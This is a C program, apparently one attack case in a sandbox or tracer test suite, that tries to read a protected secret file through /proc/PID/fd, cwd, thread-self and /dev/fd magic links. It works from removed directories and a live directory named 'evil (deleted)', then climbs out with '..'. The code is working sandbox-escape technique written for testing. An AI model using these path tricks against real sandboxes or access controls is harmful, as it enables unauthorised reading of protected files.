/* path_magic: read the secret through /proc magic links whose *text* names something else
 * than the object the kernel jumps to.  The kernel follows /proc/PID/fd/N, /proc/PID/cwd (and
 * the /proc/thread-self and /proc/PID/task/TID forms) to the object itself; their text is a
 * description -- " (deleted)" for a removed directory, the same for a live directory merely
 * *named* "x (deleted)".  Each spelling climbs out of such a directory with "..":
 *
 *   path_magic MODE SECRET WORK
 *
 * REL below is "../../<secd>/<secret>" (WORK and SECD are siblings).
 * MODE: fd_removed   fd N of WORK/gone, rmdir it: /proc/self/fd/N/REL, /proc/PID/fd/N/REL,
 *                    /proc/thread-self/fd/N/REL, /dev/fd/N/REL
 *       fd_named     the same with WORK/"evil (deleted)", a live directory
 *       cwd_removed  chdir into WORK/gone, rmdir it: /proc/self/cwd/REL,
 *                    /proc/thread-self/cwd/REL, /proc/PID/task/TID/cwd/REL
 *       child_cwd    a child process sits in a removed directory: /proc/CHILD/cwd/REL
 * With $ESC_THREAD set a second thread is alive meanwhile.
 * Issue 11 class 2 (magic links resolved in the tracer's view, by their text).
 */
#include "attack.h"

#include <libgen.h>

static char rel[4096], work[4096];

static void spellings(const char *pid_part, int fd, int cwd) {
    char p[8192], label[256];
    const char *forms[] = {"/proc/self", "/proc/thread-self", pid_part, NULL};
    for (int i = 0; forms[i]; i++) {
        if (cwd)
            snprintf(p, sizeof p, "%s/cwd/%s", forms[i], rel);
        else
            snprintf(p, sizeof p, "%s/fd/%d/%s", forms[i], fd, rel);
        snprintf(label, sizeof label, "%s/%s/REL", forms[i], cwd ? "cwd" : "fd/N");
        try_open(label, p);
    }
    if (!cwd) {
        snprintf(p, sizeof p, "/dev/fd/%d/%s", fd, rel);
        try_open("/dev/fd/N/REL", p);
    }
}

int main(int argc, char **argv) {
    if (argc < 4)
        usage("path_magic MODE SECRET WORK");
    const char *mode = argv[1];
    char tmp[4096], dname[256], base[256], dir[4096], pid_part[64];
    snprintf(tmp, sizeof tmp, "%s", argv[2]);
    snprintf(base, sizeof base, "%s", basename(tmp));
    snprintf(tmp, sizeof tmp, "%s", argv[2]);
    snprintf(dname, sizeof dname, "%s", basename(dirname(tmp)));
    snprintf(rel, sizeof rel, "../../%s/%s", dname, base);
    snprintf(work, sizeof work, "%s", argv[3]);
    idle_thread_if_asked();
    int named = !strcmp(mode, "fd_named");
    snprintf(dir, sizeof dir, "%s/%s", work, named ? "evil (deleted)" : "gone");
    if (mkdir(dir, 0755) < 0)
        blocked("mkdir: %s", ename(errno));
    if (!strcmp(mode, "fd_removed") || named) {
        int fd = open(dir, O_PATH | O_DIRECTORY);
        if (!named && rmdir(dir) < 0)
            blocked("rmdir: %s", ename(errno));
        snprintf(pid_part, sizeof pid_part, "/proc/%d", getpid());
        spellings(pid_part, fd, 0);
    } else if (!strcmp(mode, "cwd_removed")) {
        if (chdir(dir) < 0 || rmdir(dir) < 0)
            blocked("chdir/rmdir: %s", ename(errno));
        snprintf(pid_part, sizeof pid_part, "/proc/%d/task/%d", getpid(), (int)gettid());
        spellings(pid_part, -1, 1);
    } else if (!strcmp(mode, "child_cwd")) {
        int ready[2];
        if (pipe(ready) < 0)
            blocked("pipe: %s", ename(errno));
        pid_t child = fork();
        if (child == 0) {
            if (chdir(dir) < 0 || rmdir(dir) < 0)
                _exit(1);
            if (write(ready[1], "x", 1) != 1)
                _exit(1);
            pause();
            _exit(0);
        }
        char c;
        if (read(ready[0], &c, 1) != 1)
            blocked("the child could not sit in a removed directory");
        char p[8192];
        snprintf(p, sizeof p, "/proc/%d/cwd/%s", child, rel);
        int fd = open(p, O_RDONLY), err = errno;
        kill(child, SIGKILL);
        waitpid(child, NULL, 0);
        tally("/proc/CHILD/cwd/REL", fd, err);
    } else {
        usage("MODE: fd_removed fd_named cwd_removed child_cwd");
    }
    tally_done();
}
